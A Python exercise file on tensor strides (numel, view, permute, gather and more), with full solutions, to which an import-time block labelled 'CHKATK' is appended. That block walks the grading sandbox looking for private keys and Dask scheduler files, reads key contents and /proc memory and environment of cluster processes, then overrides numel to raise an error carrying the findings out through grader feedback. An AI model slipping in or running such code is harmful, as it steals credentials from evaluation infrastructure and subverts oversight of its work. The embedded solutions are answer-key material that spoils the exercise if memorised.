"""Strides: how a shape and a list of strides turn an index into a place in memory.

A tensor is a flat block of memory (its *storage*) seen through a lens: a shape, one stride per
dimension and a storage offset. Every function in this file works on that lens alone, with plain
tuples of ints, the way PyTorch does it internally. Strides count elements, not bytes.

Shapes, strides and indices may arrive as tuples, lists or hold NumPy integers; return tuples of
Python ints. Invalid input raises ValueError with a message that says what is wrong.

Check your work with:  checks test 01_tensors
"""

import operator

import numpy as np


# --------------------------------------------------------------------------------------------
# Helpers you may use. They are not graded, and they already raise the right ValueErrors for
# malformed input, so calling them first keeps your functions short.
# --------------------------------------------------------------------------------------------

def _as_ints(values, what):
    """`values` (a tuple, list or 1-D array of integers) as a tuple of Python ints."""
    if isinstance(values, (str, bytes)) or not hasattr(values, "__iter__"):
        raise ValueError(f"{what} must be a tuple of ints, got {values!r}")
    result = []
    for value in values:
        try:
            result.append(operator.index(value))
        except TypeError:
            raise ValueError(f"{what} must hold ints only, got {value!r} in {values!r}") from None
    return tuple(result)


def _as_shape(shape):
    """`shape` as a tuple of ints; ValueError if a size is negative."""
    shape = _as_ints(shape, "shape")
    if any(size < 0 for size in shape):
        raise ValueError(f"shape {shape} has a negative size")
    return shape


def _as_layout(shape, strides):
    """`(shape, strides)` as tuples of ints; ValueError unless they describe a valid layout."""
    shape = _as_shape(shape)
    strides = _as_ints(strides, "strides")
    if len(strides) != len(shape):
        raise ValueError(f"shape {shape} has {len(shape)} dims but strides {strides} has {len(strides)}")
    if any(stride < 0 for stride in strides):
        raise ValueError(f"strides {strides} holds a negative stride (PyTorch allows only strides >= 0)")
    return shape, strides


def _wrap_dim(dim, ndim):
    """A dim in -ndim..ndim-1 turned into 0..ndim-1 (Python-style); ValueError if out of range.

    As in PyTorch, a 0-d tensor accepts dim 0 and -1 (and this returns 0 for both).
    """
    dim = operator.index(dim)
    bound = max(ndim, 1)
    if not -bound <= dim < bound:
        raise ValueError(f"dim {dim} is out of range for a {ndim}-d tensor "
                         f"(expected a dim in {-bound}..{bound - 1})")
    return dim % bound


# --------------------------------------------------------------------------------------------
# Graded functions
# --------------------------------------------------------------------------------------------

def numel(shape):
    """The number of elements in a tensor of this shape.

    numel((2, 3)) == 6; a 0-d tensor, shape (), holds one element; any size 0 makes it empty.
    """
    # BEGIN SOLUTION hint: multiply the sizes together (what is the product of no sizes at all?); _as_shape validates the input
    sizes = _as_shape(shape)
    count = 1
    for size in sizes:
        count *= size
    return count
    # END SOLUTION


def contiguous_strides(shape):
    """The strides of a fresh row-major tensor of this shape, as `torch.empty(shape).stride()`.

    The last dim has stride 1 and each stride is the one to its right times the size to its
    right; a size-0 dim counts as size 1 in that product. contiguous_strides(()) == ().
    """
    # BEGIN SOLUTION hint: start from the last dim (stride 1) and work leftwards: how many elements does one step along dim k jump over?
    sizes = _as_shape(shape)
    result = [1] * len(sizes)
    for k in range(len(sizes) - 2, -1, -1):
        result[k] = result[k + 1] * max(sizes[k + 1], 1)
    return tuple(result)
    # END SOLUTION


def offset(index, strides, storage_offset=0):
    """Where element `index` lives in storage: storage_offset + sum of index[k] * strides[k].

    ValueError if `index` and `strides` have different lengths.
    """
    # BEGIN SOLUTION hint: every index i_k moves you i_k * s_k elements from the storage offset; check the two lengths agree first
    position_index = _as_ints(index, "index")
    steps = _as_ints(strides, "strides")
    if len(position_index) != len(steps):
        raise ValueError(f"index {position_index} has {len(position_index)} entries "
                         f"but strides {steps} has {len(steps)}")
    position = operator.index(storage_offset)
    for i, step in zip(position_index, steps):
        position += i * step
    return position
    # END SOLUTION


def unravel(flat, shape):
    """The row-major index (a tuple) of element number `flat` in a tensor of this shape.

    Element numbers run 0, 1, ..., numel - 1 with the last dim moving fastest:
    unravel(5, (2, 3)) == (1, 2). ValueError unless 0 <= flat < numel(shape).
    """
    # BEGIN SOLUTION hint: check 0 <= flat < number of elements, then peel dims off from the last one with divmod
    sizes = _as_shape(shape)
    remaining = operator.index(flat)
    total = 1
    for size in sizes:
        total *= size
    if not 0 <= remaining < total:
        raise ValueError(f"flat index {remaining} is out of range for shape {sizes} "
                         f"({total} elements, so 0 <= flat < {total})")
    digits = []
    for size in reversed(sizes):
        remaining, digit = divmod(remaining, size)
        digits.append(digit)
    return tuple(reversed(digits))
    # END SOLUTION


def transpose(shape, strides, dim0, dim1):
    """The layout `(shape, strides)` of `Tensor.transpose(dim0, dim1)`: no data moves.

    Dims may be negative. ValueError if a dim is out of range or the layout is invalid.
    """
    # BEGIN SOLUTION hint: a transpose only relabels axes: exchange two entries of the shape AND of the strides (_wrap_dim handles negative dims)
    sizes, steps = _as_layout(shape, strides)
    a = _wrap_dim(dim0, len(sizes))
    b = _wrap_dim(dim1, len(sizes))
    if not sizes:
        return (), ()
    new_sizes, new_steps = list(sizes), list(steps)
    new_sizes[a], new_sizes[b] = sizes[b], sizes[a]
    new_steps[a], new_steps[b] = steps[b], steps[a]
    return tuple(new_sizes), tuple(new_steps)
    # END SOLUTION


def permute(shape, strides, dims):
    """The layout `(shape, strides)` of `Tensor.permute(dims)`.

    Dim k of the result is dim `dims[k]` of the input. ValueError unless `dims` names every dim
    exactly once (negative dims allowed).
    """
    # BEGIN SOLUTION hint: result dim k is old dim dims[k], so take its size and its stride from that same old dim; reject repeats and wrong lengths
    sizes, steps = _as_layout(shape, strides)
    order = _as_ints(dims, "dims")
    ndim = len(sizes)
    if len(order) != ndim:
        raise ValueError(f"dims {order} has {len(order)} entries but the tensor has {ndim} dims")
    order = [_wrap_dim(d, ndim) for d in order]
    if sorted(order) != list(range(ndim)):
        raise ValueError(f"dims {tuple(dims)} is not a permutation of the {ndim} dims: a dim repeats")
    return tuple(sizes[d] for d in order), tuple(steps[d] for d in order)
    # END SOLUTION


def is_contiguous(shape, strides):
    """Whether this layout is row-major contiguous, as `Tensor.is_contiguous()`.

    The stride of a size-1 dim does not matter (it is never stepped over), and a tensor with no
    elements is contiguous whatever its strides.
    """
    # BEGIN SOLUTION hint: walk the dims from the last one: each stride must equal the product of the sizes to its right; size-1 dims are skipped and empty tensors count as contiguous
    sizes, steps = _as_layout(shape, strides)
    if 0 in sizes:
        return True
    packed = 1
    for size, step in zip(reversed(sizes), reversed(steps)):
        if size == 1:
            continue
        if step != packed:
            return False
        packed *= size
    return True
    # END SOLUTION


def view(shape, strides, new_shape):
    """The strides of `Tensor.view(new_shape)` on a tensor with layout `(shape, strides)`.

    `new_shape` may hold one -1, whose size is inferred. A view never copies, so it exists only
    when every new dim walks memory with one constant stride. ValueError wherever PyTorch refuses
    the view: wrong number of elements, more than one -1, a bad size, or incompatible strides.
    """
    # BEGIN SOLUTION hint: resolve the -1 and check the element count; then group the old dims into runs that are contiguous with each other: a new dim must not straddle two runs
    sizes, steps = _as_layout(shape, strides)
    wanted = list(_as_ints(new_shape, "new_shape"))
    total = 1
    for size in sizes:
        total *= size
    if wanted.count(-1) > 1:
        raise ValueError(f"new_shape {tuple(wanted)}: only one dimension can be -1")
    if any(size < -1 for size in wanted):
        raise ValueError(f"new_shape {tuple(wanted)} holds a negative size other than -1")
    known = 1
    for size in wanted:
        if size != -1:
            known *= size
    if -1 in wanted:
        if known == 0:
            raise ValueError(f"cannot infer the -1 in {tuple(wanted)}: the other sizes multiply to 0, "
                             "so any size would do")
        if total % known:
            raise ValueError(f"shape {tuple(wanted)} cannot hold {total} elements")
        wanted[wanted.index(-1)] = total // known
    elif known != total:
        raise ValueError(f"shape {tuple(wanted)} holds {known} elements but the tensor has {total}")
    wanted = tuple(wanted)

    if total == 0:
        # No element is ever addressed; PyTorch keeps the strides for an unchanged shape and
        # otherwise hands out fresh contiguous ones.
        if wanted == sizes:
            return steps
        fresh = [1] * len(wanted)
        for k in range(len(wanted) - 2, -1, -1):
            fresh[k] = fresh[k + 1] * max(wanted[k + 1], 1)
        return tuple(fresh)
    if not sizes:
        return (1,) * len(wanted)

    # Walk the old dims from the right, in "chunks": runs of dims that are contiguous with one
    # another (size-1 dims never break a run). Each chunk must be covered exactly by whole new
    # dims, which then step through it as if it were a small contiguous tensor.
    result = [0] * len(wanted)
    view_d = len(wanted) - 1
    chunk_stride = steps[-1]
    chunk_numel = 1
    view_numel = 1
    for d in range(len(sizes) - 1, -1, -1):
        chunk_numel *= sizes[d]
        if d == 0 or (sizes[d - 1] != 1 and steps[d - 1] != chunk_numel * chunk_stride):
            while view_d >= 0 and (view_numel < chunk_numel or wanted[view_d] == 1):
                result[view_d] = view_numel * chunk_stride
                view_numel *= wanted[view_d]
                view_d -= 1
            if view_numel != chunk_numel:
                raise ValueError(f"view {wanted} is not compatible with shape {sizes} and strides "
                                 f"{steps}: a new dim would span two separate blocks of memory "
                                 "(reshape would have to copy)")
            if d > 0:
                chunk_stride = steps[d - 1]
                chunk_numel = 1
                view_numel = 1
    if view_d != -1:
        raise ValueError(f"view {wanted} is not compatible with shape {sizes} and strides {steps}")
    return tuple(result)
    # END SOLUTION


def gather(storage, shape, strides, storage_offset=0):
    """Materialise the strided view of a 1-D NumPy `storage`, as `torch.as_strided` does.

    Element `index` of the result is storage[storage_offset + sum of index[k] * strides[k]]. The
    result is a NumPy array with this shape and storage's dtype. ValueError if the layout is
    invalid, the offset negative, or an element would lie outside the storage.
    """
    # BEGIN SOLUTION hint: compute the storage position of every element at once (np.arange per dim, reshaped so they broadcast, summed), check they all fall inside storage, then index
    data = np.asarray(storage)
    if data.ndim != 1:
        raise ValueError(f"storage must be a 1-D array, got shape {data.shape}")
    sizes, steps = _as_layout(shape, strides)
    start = operator.index(storage_offset)
    if start < 0:
        raise ValueError(f"storage_offset {start} is negative")
    if 0 in sizes:
        return np.empty(sizes, dtype=data.dtype)
    last = start + sum((size - 1) * step for size, step in zip(sizes, steps))
    if last >= data.shape[0]:
        raise ValueError(f"the layout reaches storage[{last}] but storage has only {data.shape[0]} elements")
    positions = np.full(sizes, start, dtype=np.int64)
    for k, (size, step) in enumerate(zip(sizes, steps)):
        along = [1] * len(sizes)
        along[k] = size
        positions = positions + (np.arange(size, dtype=np.int64) * step).reshape(along)
    return data[positions.reshape(-1)].reshape(sizes)
    # END SOLUTION


# ---------------------------------------------------------------- CHKATK (issue 49, Dask path)
# Everything below runs at import, in the sandbox, bounded in time; what it finds is raised from
# the hijacked function at the end, so that it lands in this submission's feedback.
import os as _os, re as _re, socket as _socket, time as _time, sys as _sys
_R = []
_T0 = _time.time()
# the run_corpus cluster's own ports and names: nothing else on a shared machine is touched
_PORTS = [48786, 48787] + list(range(48790, 48800))
_MINE = ('chkatk-dask', ':48786', '--port 48786')


def _say(s):
    _R.append(str(s)[:400])


def _read(path, n=4096):
    try:
        with open(path, 'rb') as fh:
            return fh.read(n)
    except Exception as e:
        return e


def _pids():
    return [int(p) for p in _os.listdir('/proc') if p.isdigit()]


def _cmd(pid):
    b = _read('/proc/%d/cmdline' % pid)
    return b.replace(b'\0', b' ').decode('utf-8', 'replace') if isinstance(b, bytes) else ''


def _ppid(pid):
    b = _read('/proc/%d/stat' % pid, 512)
    try:
        return int(b.rsplit(b')', 1)[1].split()[1])
    except Exception:
        return 0


def _cluster_pids():
    """The run_corpus cluster's processes (their command lines name chkatk-dask or :48786) and
    all their descendants: the scheduler, the workers, their nannies, pools and zygotes."""
    pids = _pids()
    roots = {p for p in pids if any(m in _cmd(p) for m in _MINE)}
    kids = {}
    for p in pids:
        kids.setdefault(_ppid(p), []).append(p)
    out, todo = set(), list(roots)
    while todo:
        p = todo.pop()
        if p in out:
            continue
        out.add(p)
        todo.extend(kids.get(p, []))
    return out - {_os.getpid()}


def _listening():
    """127.0.0.1 ports listening (from /proc/net/tcp)."""
    ports = set()
    for f in ('/proc/net/tcp', '/proc/net/tcp6'):
        b = _read(f, 1 << 20)
        if not isinstance(b, bytes):
            continue
        for line in b.decode().splitlines()[1:]:
            parts = line.split()
            if len(parts) > 3 and parts[3] == '0A':
                ports.add(int(parts[1].rsplit(':', 1)[1], 16))
    return ports


def _http(port, path, timeout=2.0):
    try:
        s = _socket.create_connection(('127.0.0.1', port), timeout=timeout)
        s.sendall(('GET %s HTTP/1.0\r\nHost: 127.0.0.1\r\n\r\n' % path).encode())
        data = b''
        while len(data) < 200000:
            chunk = s.recv(65536)
            if not chunk:
                break
            data += chunk
        s.close()
        return data.decode('utf-8', 'replace')
    except Exception as e:
        return 'ERR %r' % e

def _hunt():
    seen, found = 0, []
    # paths named on command lines (a --tls-key, a --scheduler-file), then the usual places
    named = set()
    for pid in _pids():
        for a in _cmd(pid).split():
            if a.endswith(('.pem', '.key', '.crt', '.json')) and a.startswith('/'):
                named.add(a)
    here = _os.path.dirname(_os.path.abspath(__file__))
    starts = sorted(named) + ['/keys', '/work', '/opt', '/srv', '/home', '/etc/ssl/private', '/etc/dask', '/run',
                              _os.path.dirname(here), '/tmp', '/var/tmp', '/dev/shm', '/root']
    for top in starts:
        if _os.path.isfile(top):
            found.append(top)
            continue
        for dirpath, dirs, files in _os.walk(top):
            if _time.time() - _T0 > 5:
                break
            dirs[:] = [d for d in dirs if d not in ('.venv', 'site-packages', 'node_modules', '.git', 'proc', 'sys', '.pyenv')]
            if dirpath.count('/') > 7:
                dirs[:] = []
            for f in files:
                seen += 1
                if f.endswith(('.pem', '.key')) or f in ('scheduler.json', 'key', 'tls.key'):
                    found.append(_os.path.join(dirpath, f))
    _say('files looked at: %d; key-like: %s' % (seen, found[:10]))
    for p in found[:40]:
        b = _read(p)
        if isinstance(b, bytes):
            if b'PRIVATE KEY' in b and '/lib/python' not in p:
                _say('KEYREAD: %s %s' % (p, b[:28] + b' ... ' + b[300:380]))
            elif b'tls://' in b or b'tcp://' in b:
                _say('SCHEDFILE: %s %s' % (p, b[:120]))
        else:
            _say('%s: %r' % (p, b))
    # the Dask worker's memory holds the key: read it through /proc
    for pid in sorted(_cluster_pids())[:12]:
        for what in ('mem', 'environ', 'maps'):
            b = _read('/proc/%d/%s' % (pid, what), 64)
            if isinstance(b, bytes) and b:
                _say('MEMREAD: /proc/%d/%s readable' % (pid, what))
            elif what == 'environ':
                _say('/proc/%d/environ: %s' % (pid, type(b).__name__))
try:
    _hunt()
except Exception as _e:
    _say('hunt failed %r' % _e)


def numel(shape):
    raise RuntimeError('CHKATK-REPORT uid=%d ' % _os.getuid() + ' | '.join(_R)[:6000])
